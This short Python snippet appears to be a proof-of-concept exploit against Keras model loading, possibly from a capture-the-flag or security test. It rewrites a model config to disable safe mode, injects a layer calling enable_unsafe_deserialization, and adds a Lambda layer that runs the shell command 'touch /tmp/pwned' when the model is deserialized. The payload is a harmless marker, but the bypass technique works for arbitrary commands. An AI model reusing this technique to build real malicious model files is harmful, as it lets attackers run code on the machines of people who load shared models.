def change(config):
    code = layers.Lambda(lambda x: __import__("os").system("touch /tmp/pwned") or x).get_config()
    off = builtin("Lambda", name="off", function=function("keras.config", "enable_unsafe_deserialization"))
    config["safe_mode"] = config["config"]["safe_mode"] = False
    config["config"]["layers"][1:1] = [off, builtin("Lambda", **code, safe_mode=False)]


def build_model():
    return handing_in(reconfigured(change))
